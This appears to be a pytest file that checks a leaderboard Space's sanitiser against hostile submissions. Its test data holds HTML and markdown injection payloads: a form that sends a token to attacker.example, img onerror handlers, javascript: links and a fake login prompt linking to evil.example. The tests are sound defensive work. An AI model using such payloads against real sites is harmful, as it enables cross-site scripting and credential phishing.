"""Hostile submissions on the Space's Pending view and in the verifier's comments (issue 37,
hole 6), on the fake Hub over real HTTP.

A pull request's file name, title and author are the submitter's: a backtick that closes a
hand-made code span, HTML (a token form, an image with a handler), markdown links and images,
newlines that start a heading. The view's note is rendered as the Space's `gr.Markdown`
renders it (CommonMark with raw HTML passed through) and every element in it is checked: only
what the one sanitiser (`registry.format.untrusted`) keeps, nothing the submitter wrote.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from review_setup import MALLORY, boss_says, open_pr
from test_verify_hub import hub  # noqa: F401 - the fixture

from registry.config import Settings
from registry.format.untrusted import TAGS
from registry.stores.hub import HubStore

HTML = ('<form action="https://attacker.example/steal"><input name="token" '
        'placeholder="Paste your token"></form><img src=x onerror="alert(1)">'
        '<div style="position:fixed;inset:0;z-index:99999">Sign in again</div>')
NAME = (f"data/evals/2026-11/x` {HTML} ![i](https://attacker.example/i.png) "
        "[click](javascript:alert(2)) \n# Injected heading\n`.jsonl")
AUTHOR = 'mallory<img src=x onerror="alert(3)">'
KEPT = TAGS | {"div"}


class Elements(HTMLParser):
    """Every element and attribute an HTML text holds, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def rendered(markdown: str) -> Elements:
    """`markdown` as gr.Markdown turns it into HTML (raw HTML kept), parsed."""
    parser = Elements()
    parser.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return parser


def assert_nothing_injected(markdown: str) -> None:
    page = rendered(markdown)
    tags = {tag for tag, _ in page.found}
    assert tags <= KEPT, f"injected elements: {sorted(tags - KEPT)}\n{markdown}"
    for tag, attrs in page.found:
        assert set(attrs) <= ({"href", "title", "rel"} if tag == "a" else {"start"}), (tag, attrs)
        assert not str(attrs.get("href") or "").startswith("javascript"), attrs
    assert "h1" not in tags
    assert "onerror" in "".join(page.text)  # shown as text, not dropped unseen


@pytest.fixture
def hostile(hub, monkeypatch):  # noqa: F811
    hub.add_user(AUTHOR, MALLORY)
    settings = Settings.from_env()
    store = HubStore(settings)
    store.results._ensure_dataset(store.results.repo())
    num = open_pr(hub, MALLORY, {NAME: b"{}\n"}, title=f"Runs {HTML}")
    return settings, store, num


def test_the_pending_views_note_shows_a_hostile_submission_as_text(hub, hostile):  # noqa: F811
    from space.leaderboard_tab import pending
    from space.pending_replay import PendingReplays
    from space.state import SpaceState

    settings, store, num = hostile
    state = SpaceState(settings, store, on_space=False)
    replays = PendingReplays(state)
    replays.run()
    _, note = pending(state, replays)
    state.data.stop()
    assert f"PR #{num}" in note and "refused" in note
    assert_nothing_injected(note)


def test_the_verifiers_comment_quotes_a_hostile_submission_as_code(hub, hostile):  # noqa: F811
    from registry.verify.admission import replay_pending

    settings, store, num = hostile
    [check] = replay_pending(store, settings)
    assert check.status == "refused"
    [said] = boss_says(hub, num)
    page = rendered(said)
    tags = {tag for tag, _ in page.found}
    assert not tags & {"img", "form", "input", "div", "h1", "a"}, (tags, said)
    assert "onerror" in "".join(page.text)


def test_the_pending_tables_cells_show_hostile_ids_as_text(hub, hostile):  # noqa: F811
    """A run's model id, skill name and repo are the submitter's too: the table's markdown cells
    (skill@version, model) render none of their markup, and show it as it was written."""
    from huggingface_hub import CommitOperationAdd, HfApi
    from test_review_flow import run as made_run

    from registry.results.runs import to_json
    from space.leaderboard_tab import pending
    from space.state import SpaceState

    settings, store, _ = hostile
    _, rows = made_run("r-hostile")
    model = f"m/x` {HTML} [click](javascript:alert(4))"
    # Red-team round 4: a `)` in the skill's repo closed the link, and the rest was raw HTML
    repo = ("z) <div style=font-size:40px>Session expired. <a href=https://evil.example/login>"
            "Sign in with Hugging Face</a></div> (")
    text = "".join(to_json(row.model_copy(update={"model": model, "skill_repo": repo})) + "\n"
                   for row in rows)
    HfApi(endpoint=hub.url, token=MALLORY).create_commit(
        "boss/hubskills-evals", [CommitOperationAdd("data/evals/2026-01/r-hostile.jsonl",
                                                    text.encode())],
        commit_message="mine", repo_type="dataset", create_pr=True)
    state = SpaceState(settings, store, on_space=False)
    table, _ = pending(state)
    state.data.stop()
    shown = [cell for row in table["metadata"]["display_value"] for cell in row if cell]
    assert any("onerror" in cell for cell in shown)
    [cell] = [rendered(c) for c in shown if "Session expired" in c]
    assert "".join(cell.text).strip() == repo  # as written: no backslash of an escape shown
    for cell in shown:
        page = rendered(cell)
        assert {tag for tag, _ in page.found} <= {"p", "a", "wbr"}, cell
        assert all(str(a.get("href")).startswith("?skill=") for tag, a in page.found
                   if tag == "a"), cell
